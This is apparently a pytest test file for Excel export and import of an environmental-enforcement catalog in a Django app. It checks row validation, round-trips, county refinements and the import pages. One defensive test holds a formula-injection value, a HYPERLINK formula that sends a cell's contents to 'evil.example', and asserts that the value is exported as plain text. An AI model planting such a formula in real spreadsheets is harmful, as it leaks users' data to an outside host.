"""Excel export in the published columns; import into a draft (every bad row listed, nothing stored)."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from tests.catalog.test_catalog_support import ITEMS, draft, load_city, walk_to_published

from ecoenforce.audit.models import AuditEvent
from ecoenforce.catalog import excel, selectors, services
from ecoenforce.catalog.models import CatalogEntry
from ecoenforce.worker.inline import run_queued
from ecoenforce.worker.models import Job, JobStatus

pytestmark = pytest.mark.django_db

HEADER = ["序号", "事项名称", "职权类型", "实施依据", "实施主体", "第一责任层级建议", "备注", "事项编码"]
BASIS = (
    "《中华人民共和国大气污染防治法》第一百零八条第（一）项【处罚条款】：……处二万元以上二十万元以下的罚款……"
)


def _xlsx(rows: list[list[object]], header: list[str] = HEADER, title: bool = True) -> BytesIO:
    wb = Workbook()
    ws = wb.active
    if title:
        ws.append(["某某执法事项清单"])
    ws.append(header)
    for row in rows:
        ws.append(row)
    out = BytesIO()
    wb.save(out)
    out.seek(0)
    return out


def _rows(content: bytes) -> list[tuple[object, ...]]:
    ws = load_workbook(BytesIO(content)).active
    return list(ws.iter_rows(values_only=True))


def _import(version, user, rows, reason="年度调整"):
    return excel.import_into_draft(
        version=version, by=user, upload=_xlsx(rows), filename="清单.xlsx", reason=reason
    )


def test_export_uses_the_published_columns(world, tmp_path):
    load_city(world, tmp_path)
    content = excel.export_effective(selectors.effective_catalog(world.units["county_a"]))
    rows = _rows(content)
    assert "固安县生态环境综合执法大队" in rows[0][0]
    assert list(rows[1]) == HEADER
    first = rows[2]
    assert first[:3] == (1, ITEMS[0]["name"], "行政处罚")
    assert first[3].splitlines()[0].startswith("《中华人民共和国大气污染防治法》第十八条：向大气排放污染物的")
    assert "《中华人民共和国大气污染防治法》第九十九条第（二）项：" in first[3]
    assert first[4:] == (ITEMS[0]["implementing_subject"], "设区的市", ITEMS[0]["notes"], "AIR-99-2")
    assert len(rows) == 2 + len(ITEMS)


def test_a_version_exported_and_imported_back_changes_nothing(world, tmp_path):
    v1 = load_city(world, tmp_path)
    rows = [list(r) for r in _rows(excel.export_version(v1))[2:]]
    version = draft(world, "city", change_reason="核对")
    report = _import(version, world.user("city", "team_leader"), rows)
    assert report.ok and report.done == {"add": [], "refine": [], "update": []}
    assert selectors.diff(v1, version).is_empty


def test_import_adds_and_updates_items(world, tmp_path):
    load_city(world, tmp_path)
    version = draft(world, "city", change_reason="年度调整")
    rows = [
        [
            1,
            "挥发性有机物废气未在密闭空间中进行",
            "行政处罚",
            BASIS,
            "县级以上人民政府生态环境主管部门",
            "设区的市",
            "",
            "AIR-108-1",
        ],
        [
            2,
            "无编码的本地事项",
            "行政检查",
            "《河北省生态环境保护条例》第三十条：……",
            "市生态环境局",
            "市级",
            "",
            None,
        ],
        [
            3,
            ITEMS[0]["name"],
            "行政处罚",
            "《中华人民共和国大气污染防治法》第九十九条第（二）项：……",
            "市生态环境局",
            "设区的市",
            "改由市局统一实施",
            None,
        ],
    ]
    report = _import(version, world.user("city", "team_leader"), rows)
    assert report.ok, report.errors
    assert report.done == {"add": ["AIR-108-1", "L131000-001"], "refine": [], "update": ["AIR-99-2"]}
    added = version.entries.get(code="AIR-108-1")
    assert added.legal_basis == [
        {
            "law": "中华人民共和国大气污染防治法",
            "article": "第一百零八条",
            "clause": "第（一）项",
            "kind": "处罚条款",
            "text": "……处二万元以上二十万元以下的罚款……",
        }
    ]
    assert (added.change_reason, added.sanction) == ("年度调整", {})
    assert version.entries.get(code="L131000-001").first_level == "city"
    updated = version.entries.get(code="AIR-99-2")  # matched by name
    assert updated.implementing_subject == "市生态环境局" and updated.notes == "改由市局统一实施"
    assert updated.sanction["min"] == "100000"  # not in the columns: kept
    event = AuditEvent.objects.get(action="catalog.entries_import")
    assert "清单.xlsx" in event.reason


def test_every_bad_row_is_listed_and_nothing_is_stored(world, tmp_path):
    load_city(world, tmp_path)
    version = draft(world, "city", change_reason="年度调整")
    before = list(CatalogEntry.objects.values_list("pk", "code", "name"))
    rows = [
        [1, "", "行政处罚", BASIS, "局", "设区的市", "", "AIR-108-1"],
        [2, "事项二", "处罚", BASIS, "局", "中央", "", "AIR-108-2"],
        [3, "事项三", "行政处罚", "大气法第九十九条", "局", "县级", "", "AIR-108-3"],
        [4, "事项四", "行政处罚", BASIS, "", "县级", "", "bad code"],
        [5, "事项五", "行政处罚", BASIS, "局", "县级", "", "AIR-108-5"],
        [6, "事项六", "行政处罚", BASIS, "局", "县级", "", "AIR-108-5"],
    ]
    report = _import(version, world.user("city", "team_leader"), rows)
    assert not report.ok
    found = {(e.row, e.column) for e in report.errors}
    assert found == {
        (3, "事项名称"),
        (4, "职权类型"),
        (4, "第一责任层级建议"),
        (5, "实施依据"),
        (6, "实施主体"),
        (6, "事项编码"),
        (8, "事项编码"),
    }
    reasons = {(e.row, e.column): e.reason for e in report.errors}
    assert reasons[(3, "事项名称")] == "请填写事项名称"
    assert "职权类型「处罚」不是可选值" in reasons[(4, "职权类型")]
    assert "应以《法律法规名称》第×条开头" in reasons[(5, "实施依据")]
    assert reasons[(8, "事项编码")] == "事项 AIR-108-5 与第7行重复"
    assert list(CatalogEntry.objects.values_list("pk", "code", "name")) == before
    assert not AuditEvent.objects.filter(action="catalog.entries_import").exists()


def test_unreadable_files_and_missing_columns_are_explained(world, tmp_path):
    load_city(world, tmp_path)
    version = draft(world, "city", change_reason="年度调整")
    user = world.user("city", "team_leader")
    with pytest.raises(ValidationError, match=r"不是有效的 Excel（\.xlsx）文件"):
        excel.import_into_draft(version=version, by=user, upload=BytesIO(b"not a zip"), filename="x.xlsx")
    with pytest.raises(ValidationError, match="表头缺少必需的列：实施依据、第一责任层级建议"):
        excel.import_into_draft(
            version=version,
            by=user,
            upload=_xlsx([], header=["事项名称", "职权类型", "实施主体"]),
            filename="x.xlsx",
        )
    with pytest.raises(ValidationError, match="找不到表头"):
        excel.import_into_draft(
            version=version, by=user, upload=_xlsx([], header=["a", "b"]), filename="x.xlsx"
        )


def test_lower_unit_import_turns_inherited_rows_into_refinements(world, tmp_path):
    load_city(world, tmp_path)
    exported = [
        list(r)
        for r in _rows(excel.export_effective(selectors.effective_catalog(world.units["county_a"])))[2:]
    ]
    exported[2][4] = "固安县生态环境综合执法大队"  # AIR-100-3: the county names its own team
    exported[2][6] = "由固安镇协助"
    exported.append(
        [
            5,
            "本县露天焚烧事项",
            "行政处罚",
            "《河北省大气污染防治条例》第七十四条：……",
            "县局",
            "县级",
            "",
            None,
        ]
    )
    version = draft(world, "county_a", change_reason="本县细化")
    report = _import(version, world.user("county_a", "team_leader"), exported)
    assert report.ok, report.errors
    assert report.done == {"add": ["L131022-001"], "refine": ["AIR-100-3"], "update": []}
    refine = version.entries.get(code="AIR-100-3")
    assert (refine.action, refine.name, refine.implementing_subject, refine.notes) == (
        "refine",
        "",
        "固安县生态环境综合执法大队",
        "由固安镇协助",
    )
    walk_to_published(world, version, "county_a")
    # The county's effective catalog exported and imported into its next draft is a no-op.
    again = [
        list(r)
        for r in _rows(excel.export_effective(selectors.effective_catalog(world.units["county_a"])))[2:]
    ]
    nxt = draft(world, "county_a", change_reason="核对")
    assert _import(nxt, world.user("county_a", "team_leader"), again).done == {
        "add": [],
        "refine": [],
        "update": [],
    }


def test_import_and_export_pages(world, tmp_path, client):
    load_city(world, tmp_path)
    version = draft(world, "city", change_reason="年度调整")
    client.force_login(world.user("city", "team_leader"))
    url = reverse("catalog:import", args=[version.pk])
    upload = _xlsx([[1, "", "行政处罚", BASIS, "局", "设区的市", "", "AIR-108-1"]])
    upload.name = "清单.xlsx"
    page = client.post(url, {"file": upload, "reason": "调整"})
    assert page.status_code == 302 and page.url.startswith("/jobs/")  # read in the background worker
    assert run_queued() == 1
    job = Job.objects.get()
    assert job.status == JobStatus.DONE and "文件未导入" in job.message
    html = client.get(job.result_url).content.decode()  # the import page again, with the row errors
    assert "文件未导入" in html and "第3行" in html and "请填写事项名称" in html
    good = _xlsx([[1, "新事项", "行政处罚", BASIS, "局", "设区的市", "", "AIR-108-1"]])
    good.name = "清单.xlsx"
    assert client.post(url, {"file": good, "reason": "调整"}).status_code == 302
    assert run_queued() == 1
    job = Job.objects.latest("created_at")
    assert job.status == JobStatus.DONE and "导入完成：新增1项" in job.message
    assert job.result_url == reverse("catalog:version", args=[version.pk])
    assert version.entries.filter(code="AIR-108-1").exists()
    response = client.get(reverse("catalog:export") + f"?unit={world.units['city'].pk}")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert _rows(response.content)[1] == tuple(HEADER)
    response = client.get(reverse("catalog:version-export", args=[version.pk]))
    assert any(r[-1] == "AIR-108-1" for r in _rows(response.content)[2:])


def test_import_into_a_version_under_review_is_refused(world, tmp_path):
    load_city(world, tmp_path)
    version = draft(world, "city", change_reason="年度调整")
    services.entry_remove(
        entry=version.entries.get(code="EIA-31-1"), by=world.user("city", "team_leader"), reason="划转"
    )
    services.version_submit(version=version, by=world.user("city", "team_leader"))
    with pytest.raises(ValidationError, match="只有草稿可以导入"):
        _import(version, world.user("city", "team_leader"), [])


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_a_formula_like_value_is_exported_as_text(world, tmp_path):
    """Formula injection: a name starting with "=" must open as text, never as a live formula."""
    from tests.catalog.test_catalog_support import new_item

    load_city(world, tmp_path)
    version = draft(world, "city", change_reason="调整")
    services.entry_add(version=version, by=world.user("city", "team_leader"),
                       data=new_item("AIR-108-1", FORMULA), reason="新增")
    content = excel.export_version(version)
    ws = load_workbook(BytesIO(content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
